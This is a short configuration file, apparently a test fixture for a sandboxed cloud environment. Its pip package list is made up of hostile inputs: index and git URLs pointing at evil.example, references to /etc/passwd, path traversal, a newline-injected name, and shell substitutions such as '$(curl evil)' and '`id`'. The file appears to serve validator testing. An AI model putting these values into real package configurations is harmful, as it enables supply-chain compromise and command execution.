terrarium {
  stack = "hostile"
}
environment "a" {
  config {
    type = "cloud"
    packages {
      pip = ["--index-url=https://evil.example/simple", "-e git+https://evil.example/x.git#egg=x", "--extra-index-url https://evil.example", "-r /etc/passwd", "pandas; os_name=='nt'", "pkg @ file:///etc/passwd", "../../etc/passwd", "pandas==2.2.0 --trusted-host evil", "-i https://evil", "--pre", "pandas\npip", "$(curl evil)", "`id`"]
    }
    networking {
      type = "limited"
      allowed_hosts = []
      allow_package_managers = true
    }
  }
}
